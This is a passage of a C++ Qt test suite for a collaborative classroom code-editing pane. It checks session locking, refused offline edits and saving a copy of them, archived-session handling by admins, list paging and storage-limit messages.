    m_server->config().maxCodeSessionsPerOwner = 1;
    QCOMPARE(m_server->start(), QString());
    auto ines = person(QStringLiteral("ines"));
    QVERIFY(ines);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab 5"));
    QVERIFY(enter(*ines, id));
    ines->pane->lockAction()->trigger();
    QTRY_VERIFY(ines->pane->session()->info().locked);
    QVERIFY(ines->pane->lockAction()->isChecked());
    // Locked, it frees the only place, which a new session takes.
    QVERIFY(createSession(*ines, QStringLiteral("Lab 6")).isValid());

    // Unlocking it is refused: the menu shows it locked again and says why.
    ines->pane->lockAction()->trigger();
    QVERIFY(!ines->pane->lockAction()->isChecked());
    const auto told = [&ines] {
        const QList<MessageBanner *> banners = ines->pane->findChildren<MessageBanner *>();
        return std::any_of(banners.cbegin(), banners.cend(), [](const MessageBanner *banner) {
            return banner->isVisible() && banner->text().contains(QLatin1String("open sessions"));
        });
    };
    QTRY_VERIFY(told());
    QVERIFY(ines->pane->lockAction()->isChecked());
    QVERIFY(ines->pane->session()->info().locked);
}

namespace {
/// The session list's text for a session; empty if it is not listed.
QString listedText(CodePane *pane, CodeSessionId id)
{
    for (int row = 0; row < pane->sessionList()->count(); ++row) {
        const QListWidgetItem *item = pane->sessionList()->item(row);
        if (item->data(Qt::UserRole).toLongLong() == id.value())
            return item->text();
    }
    return QString();
}

bool showsBanner(const CodePane *pane, const QString &part)
{
    const QList<MessageBanner *> banners = pane->findChildren<MessageBanner *>();
    return std::any_of(banners.cbegin(), banners.cend(), [&part](const MessageBanner *banner) {
        return banner->isVisible() && banner->text().contains(part);
    });
}
} // namespace

void TestCodePane::refusedEditsOfferACopy()
{
    auto ines = person(QStringLiteral("ines"));
    TestNetwork network;
    auto ana = person(QStringLiteral("ana"), &network);
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId main = createFile(*ines, QStringLiteral("src/main.py"), QStringLiteral("x = 1\n"));
    const CodeFileId notes = createFile(*ines, QStringLiteral("notes.py"), QStringLiteral("# notes\n"));
    QVERIFY(enter(*ana, id));
    QVERIFY(openLoaded(*ana, notes));
    CollabEditor *anaEditor = openLoaded(*ana, main);
    QVERIFY(anaEditor);
    QVERIFY(!anaEditor->isReadOnly());
    QVERIFY(!ana->pane->refusedBanner()->isVisible());

    // Ana types on a train; meanwhile the teacher makes her a viewer.
    QVERIFY(typeOffline(*ana, network, anaEditor, QStringLiteral("y = 2  # my work")));
    const QString mine = QStringLiteral("x = 1\ny = 2  # my work");
    QCOMPARE(anaEditor->text(), mine);
    bool roleSet = false;
    ines->pane->session()->setRole(m_ana, CodeRole::Viewer, ines->pane.get(),
                                   [&roleSet](const Client::Reply &reply) { roleSet = reply.ok; });
    QTRY_VERIFY(roleSet);

    // Back online the server refuses her edits: the editor shows the server's text again, and
    // the banner says what happened and offers her text.
    network.down = false;
    QTRY_VERIFY_WITH_TIMEOUT(ana->pane->refusedBanner()->isVisible(), 20000);
    QTRY_COMPARE(anaEditor->text(), QStringLiteral("x = 1\n"));
    QCOMPARE(ana->pane->refusedFile(), main);
    QCOMPARE(ana->pane->refusedBanner()->text(),
             QStringLiteral("Your last changes to main.py were not saved: you can no longer edit this session. "
                            "Save a copy to keep them."));
    QVERIFY(ana->pane->saveCopyButton()->isVisible());
    QVERIFY(ana->pane->copyRefusedButton()->isVisible());
    QVERIFY(ana->pane->dismissRefusedButton()->isVisible());
    // That banner says it all: no second, vaguer error above it.
    QVERIFY(!ana->pane->findChild<MessageBanner *>(QStringLiteral("codeError"))->isVisible());
    screenshot(ana->pane.get(), QStringLiteral("code-refused-edits"));

    // Switching files does not lose it.
    ana->pane->openFile(notes);
    QVERIFY(ana->pane->refusedBanner()->isVisible());
    ana->pane->openFile(main);
    QVERIFY(ana->pane->refusedBanner()->isVisible());
    QCOMPARE(ana->pane->refusedFile(), main);

    // Leaving loses nothing and asks nothing: the text is kept on this computer, the list says
    // so once, and opening the session again (even after a restart) offers it again.
    const qint64 keptId = ana->pane->refusedEditsId();
    QVERIFY(keptId != 0);
    ana->pane->leaveSession();
    QVERIFY(!ana->pane->session());
    QVERIFY(!QApplication::activeModalWidget());
    QVERIFY(showsBanner(ana->pane.get(), QStringLiteral("The changes the server refused are kept too")));
    ana->pane->refreshSessions(); // what a user who goes back to the list gets
    QTRY_VERIFY(listedText(ana->pane.get(), id).contains(QLatin1String("refused changes to save")));
    QVERIFY(showsBanner(ana->pane.get(), QStringLiteral("The changes the server refused are kept too")));
    QVERIFY(enter(*ana, id));
    QTRY_VERIFY(ana->pane->refusedBanner()->isVisible());
    QCOMPARE(ana->pane->refusedEditsId(), keptId);
    QCOMPARE(ana->pane->refusedFile(), main);

    QGuiApplication::clipboard()->clear();
    ana->pane->copyRefusedButton()->click();
    QCOMPARE(QGuiApplication::clipboard()->text(), mine);

    // Save a copy asks where, proposing "main (my copy).py", and writes her text there.
    ana->pane->saveCopyButton()->click();
    QFileDialog *dialog = nullptr;
    QTRY_VERIFY((dialog = ana->pane->findChild<QFileDialog *>(QStringLiteral("saveCopyDialog"))) != nullptr);
    QCOMPARE(dialog->acceptMode(), QFileDialog::AcceptSave);
    QCOMPARE(QFileInfo(dialog->selectedFiles().value(0)).fileName(), QStringLiteral("main (my copy).py"));
    QTemporaryDir target;
    const QString path = target.filePath(QStringLiteral("main (my copy).py"));
    dialog->setDirectory(target.path());
    dialog->selectFile(path);
    auto *buttons = dialog->findChild<QDialogButtonBox *>();
    QVERIFY(buttons && buttons->button(QDialogButtonBox::Save));
    buttons->button(QDialogButtonBox::Save)->click();
    QTRY_VERIFY(QFileInfo::exists(path));
    QFile saved(path);
    QVERIFY(saved.open(QIODevice::ReadOnly));
    QCOMPARE(QString::fromUtf8(saved.readAll()), mine);
    // Saved, the banner goes.
    QTRY_VERIFY(!ana->pane->refusedBanner()->isVisible());
    QVERIFY(!ana->pane->session()->refusedEdits(main));
    // Nothing is left to lose: leaving does not ask.
    ana->pane->leaveSession();
    QVERIFY(!ana->pane->session());
}

void TestCodePane::refusedEditsOfADotFileProposeItsName()
{
    auto ines = person(QStringLiteral("ines"));
    TestNetwork network;
    auto ana = person(QStringLiteral("ana"), &network);
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId env = createFile(*ines, QStringLiteral(".env"), QStringLiteral("A=1\n"));
    QVERIFY(enter(*ana, id));
    CollabEditor *anaEditor = openLoaded(*ana, env);
    QVERIFY(anaEditor);
    QVERIFY(typeOffline(*ana, network, anaEditor, QStringLiteral("B=2")));
    bool roleSet = false;
    ines->pane->session()->setRole(m_ana, CodeRole::Viewer, ines->pane.get(),
                                   [&roleSet](const Client::Reply &reply) { roleSet = reply.ok; });
    QTRY_VERIFY(roleSet);
    network.down = false;
    QTRY_VERIFY_WITH_TIMEOUT(ana->pane->refusedBanner()->isVisible(), 20000);

    // ".env" has no base name to put "(my copy)" before: the copy is ".env (my copy)", not
    // " (my copy).env".
    ana->pane->saveCopyButton()->click();
    QFileDialog *dialog = nullptr;
    QTRY_VERIFY((dialog = ana->pane->findChild<QFileDialog *>(QStringLiteral("saveCopyDialog"))) != nullptr);
    QCOMPARE(QFileInfo(dialog->selectedFiles().value(0)).fileName(), QStringLiteral(".env (my copy)"));
    dialog->reject();
}


void TestCodePane::leavingOfflineKeepsUnsentEdits()
{
    auto ines = person(QStringLiteral("ines"));
    TestNetwork network;
    auto ana = person(QStringLiteral("ana"), &network);
    QVERIFY(ines && ana);
    const CodeSessionId id = createSession(*ines, QStringLiteral("Lab"));
    QVERIFY(enter(*ines, id));
    const CodeFileId main = createFile(*ines, QStringLiteral("main.py"), QStringLiteral("x = 1\n"));
    CollabEditor *inesEditor = openLoaded(*ines, main);
    QVERIFY(enter(*ana, id));
    CollabEditor *anaEditor = openLoaded(*ana, main);
    QVERIFY(inesEditor && anaEditor);

    // The Wi-Fi goes, Ana types and leaves: not blocked, told once where her changes are.
    QVERIFY(typeOffline(*ana, network, anaEditor, QStringLiteral("y = 2")));
    ana->pane->leaveSession();
    QVERIFY(!ana->pane->session());
    QVERIFY(!QApplication::activeModalWidget());
    QVERIFY(showsBanner(ana->pane.get(), QStringLiteral("not on the server yet")));

    // Back online the list marks the session, and the note stays above it.
    network.down = false;
    QTRY_COMPARE_WITH_TIMEOUT(ana->connection->state(), Client::Connection::State::Connected, 10000);
    ana->pane->refreshSessions();
    QTRY_VERIFY(listedText(ana->pane.get(), id).contains(QLatin1String("your changes not yet sent")));
    QVERIFY(showsBanner(ana->pane.get(), QStringLiteral("not on the server yet")));
    QCOMPARE(inesEditor->text(), QStringLiteral("x = 1\n"));

    // Opening the session again sends them.
    QVERIFY(enter(*ana, id));
    QTRY_COMPARE_WITH_TIMEOUT(inesEditor->text(), QStringLiteral("x = 1\ny = 2"), 10000);
    QTRY_VERIFY(!ana->code->sessionsWithKeptChanges(false).contains(id));
}

void TestCodePane::adminFindsEveryArchivedSession()
{
    QVERIFY(m_server->addUser(QStringLiteral("root"), Role::Admin).isValid());
    auto ines = person(QStringLiteral("ines"));
    auto root = person(QStringLiteral("root"));
    QVERIFY(ines && root);
    const CodeSessionId old = createSession(*ines, QStringLiteral("Lab 1 (2025)"));
    const CodeSessionId older = createSession(*ines, QStringLiteral("Lab 0 (2024)"));
    QVERIFY(old.isValid() && older.isValid());
    for (const CodeSessionId id : {old, older}) {
        bool archived = false;
        ines->code->archiveSession(id, ines->code.get(), [&archived](const Client::Reply &reply, const std::optional<Client::CodeSessionInfo> &) {
            archived = reply.ok;
        });
        QTRY_VERIFY(archived);
    }

    // Not in the admin's list until Archived is on; then both, greyed, with their owner.
    root->pane->refreshSessions();
    QTRY_VERIFY(root->pane->noSessionsState()->isVisible());
    root->pane->showArchivedButton()->click();
    QTRY_COMPARE(root->pane->sessionList()->count(), 2);
    QListWidgetItem *item = root->pane->sessionList()->item(1); // newest first
    QVERIFY(item->text().startsWith(QStringLiteral("Lab 1 (2025)")));
    QVERIFY2(item->text().contains(QStringLiteral("\narchived · by INES · ")), qPrintable(item->text()));
    QVERIFY(!item->text().contains(QLatin1String("only you")));
    // Nor by activating it (a double-click, Enter): that would leave the admin's own session
    // for a join the server refuses.
    Q_EMIT root->pane->sessionList()->itemActivated(item);
    QVERIFY(!root->pane->session());
    // The admin unarchives or deletes it, but cannot open it: it is its owner's alone.
    const std::unique_ptr<QMenu> menu(root->pane->listMenu(old));
    QVERIFY(!menu->findChild<QAction *>(QStringLiteral("openSessionAction")));
    QAction *unarchive = menu->findChild<QAction *>(QStringLiteral("unarchiveSessionAction"));
    QVERIFY(unarchive);
    unarchive->trigger();
    QTRY_COMPARE(root->pane->sessionList()->count(), 1); // back in Ines's list, not the admin's
    const std::unique_ptr<QMenu> second(root->pane->listMenu(older));
    QAction *remove = second->findChild<QAction *>(QStringLiteral("deleteSessionAction"));
    QVERIFY(remove);
    QString asked;
    answerNextBox(QMessageBox::Yes, &asked);
    remove->trigger();
    QVERIFY2(asked.contains(QLatin1String("Lab 0 (2024)")), qPrintable(asked));
    QTRY_VERIFY(root->pane->noSessionsState()->isVisible());

    // Ines sees the result: one live session, nothing archived.
    std::optional<QList<Client::CodeSessionInfo>> listed;
    ines->code->listSessions(CourseId(), ines->code.get(), [&listed](const Client::Reply &reply, const QList<Client::CodeSessionInfo> &sessions) {
        if (reply.ok)
            listed = sessions;
    }, true);
    QTRY_VERIFY(listed.has_value());
    QCOMPARE(listed->size(), 1);
    QCOMPARE(listed->first().id, old);
    QVERIFY(!listed->first().archived);
}

void TestCodePane::archivedListSaysWhoSeesItAndWhereItStops()
{
    QVERIFY(m_server->stop());
    m_server->config().maxCodeSessionsPerOwner = 300;
    m_server->config().maxCodeStoredSessionsPerOwner = 300;
    m_server->config().requestsPerSecond = 10000; // the fillers below go out at once
    QCOMPARE(m_server->start(), QString());
    QVERIFY(m_server->addUser(QStringLiteral("root"), Role::Admin).isValid());
    auto ines = person(QStringLiteral("ines"));
    auto root = person(QStringLiteral("root"));
    QVERIFY(ines && root);
    const CodeSessionId inesOwn = createSession(*ines, QStringLiteral("Ines's lab"));
    const CodeSessionId rootOwn = createSession(*root, QStringLiteral("Root's notes"));
    QVERIFY(inesOwn.isValid() && rootOwn.isValid());
    for (Person *owner : {ines.get(), root.get()}) {
        bool archived = false;
        owner->code->archiveSession(owner == ines.get() ? inesOwn : rootOwn, owner->code.get(),
                                    [&archived](const Client::Reply &reply, const std::optional<Client::CodeSessionInfo> &) {
            archived = reply.ok;
        });
        QTRY_VERIFY(archived);
    }

    // Each line says who sees it: the admins see every archived session, the owner's too.
    ines->pane->showArchivedButton()->click();
    QTRY_COMPARE(ines->pane->sessionList()->count(), 1);
    QVERIFY2(ines->pane->sessionList()->item(0)->text().contains(
                 QLatin1String("archived: read-only, only you and the server's admins see it")),
             qPrintable(ines->pane->sessionList()->item(0)->text()));
    root->pane->showArchivedButton()->click();
    QTRY_COMPARE(root->pane->sessionList()->count(), 2);
    QListWidgetItem *rootsLine = root->pane->sessionList()->item(0); // newest first
    QVERIFY(rootsLine->text().startsWith(QLatin1String("Root's notes")));
    QVERIFY2(rootsLine->text().contains(QLatin1String("archived: read-only, only you and the other admins see it")),
             qPrintable(rootsLine->text()));
    QListWidgetItem *inesLine = root->pane->sessionList()->item(1);
    QVERIFY2(inesLine->text().contains(QStringLiteral("\narchived · by INES · ")), qPrintable(inesLine->text()));
    QVERIFY(!inesLine->text().contains(QLatin1String("only you")));

    // More sessions than one code.list page: the list shows the newest, and its last line
    // fetches the next page, which ends the list here.
    int created = 0;
    for (int i = 0; i < Protocol::MaxCodeListLimit; ++i) {
        Client::NewCodeSession settings;
        settings.title = QStringLiteral("Filler %1").arg(i);
        root->code->createSession(settings, root->code.get(),
                                  [&created](const Client::Reply &reply, const std::optional<Client::CodeSessionInfo> &) {
            created += reply.ok ? 1 : 0;
        });
    }
    QTRY_COMPARE_WITH_TIMEOUT(created, Protocol::MaxCodeListLimit, 30000);
    QListWidget *list = root->pane->sessionList();
    root->pane->refreshSessions();
    QTRY_COMPARE(list->count(), Protocol::MaxCodeListLimit + 1);
    QListWidgetItem *more = list->item(Protocol::MaxCodeListLimit);
    QCOMPARE(more->text(), QStringLiteral("Show older sessions"));
    QVERIFY(more->flags() & Qt::ItemIsEnabled);
    QVERIFY(!list->item(Protocol::MaxCodeListLimit - 1)->text().startsWith(QLatin1String("Root's notes")));
    // It opens nothing and has no menu; clicked, then activated (a double click), the page
    // comes once.
    QVERIFY(std::unique_ptr<QMenu>(root->pane->listMenu(CodeSessionId(0)))->isEmpty());
    Q_EMIT list->itemClicked(more);
    Q_EMIT list->itemActivated(more);
    QVERIFY(!root->pane->session());
    QTRY_COMPARE(list->count(), Protocol::MaxCodeListLimit + 2);
    QVERIFY(list->item(Protocol::MaxCodeListLimit)->text().startsWith(QLatin1String("Root's notes")));
    QVERIFY(list->item(Protocol::MaxCodeListLimit + 1)->text().startsWith(QLatin1String("Ines's lab")));
    // The older sessions have their menus like the first page's.
    QVERIFY(!std::unique_ptr<QMenu>(root->pane->listMenu(inesOwn))->isEmpty());
    // Without "Archived" the fillers alone make exactly one page: nothing older to offer.
    root->pane->showArchivedButton()->click();
    QTRY_COMPARE(list->count(), Protocol::MaxCodeListLimit);
    QVERIFY(list->item(0)->text().startsWith(QLatin1String("Filler ")));
    QVERIFY(list->item(Protocol::MaxCodeListLimit - 1)->text().startsWith(QLatin1String("Filler ")));
}

void TestCodePane::storedSessionLimitSaysWhatHelps()
{
    QVERIFY(m_server->stop());
    m_server->config().maxCodeStoredSessionsPerOwner = 1;
    QCOMPARE(m_server->start(), QString());
    auto ines = person(QStringLiteral("ines"));
    QVERIFY(ines);
    const CodeSessionId old = createSession(*ines, QStringLiteral("Lab 1"));
    QVERIFY(old.isValid());
    bool archived = false;
    ines->code->archiveSession(old, ines->code.get(), [&archived](const Client::Reply &reply, const std::optional<Client::CodeSessionInfo> &) {
        archived = reply.ok;
    });
    QTRY_VERIFY(archived);

    // New session… at the limit: the list says that archiving will not help, deleting will.
    bool filled = false;
    QTimer poll;
    poll.setInterval(10);
    connect(&poll, &QTimer::timeout, this, [&filled] {
        auto *dialog = qobject_cast<NewSessionDialog *>(QApplication::activeModalWidget());
        if (!dialog || filled)
            return;
        filled = true;
        dialog->titleEdit()->setText(QStringLiteral("Lab 2"));
        dialog->findChild<QDialogButtonBox *>()->button(QDialogButtonBox::Ok)->click();
    });
    poll.start();
    ines->pane->findChild<QToolButton *>(QStringLiteral("newSessionButton"))->click();
    QTRY_VERIFY(filled);
    const auto told = [&ines] {
        const QList<MessageBanner *> banners = ines->pane->findChildren<MessageBanner *>();
        return std::any_of(banners.cbegin(), banners.cend(), [](const MessageBanner *banner) {
            return banner->isVisible() && banner->text().contains(QLatin1String("Delete archived sessions"));
        });
    };
    QTRY_VERIFY(told());
    QVERIFY(!ines->pane->session());
}
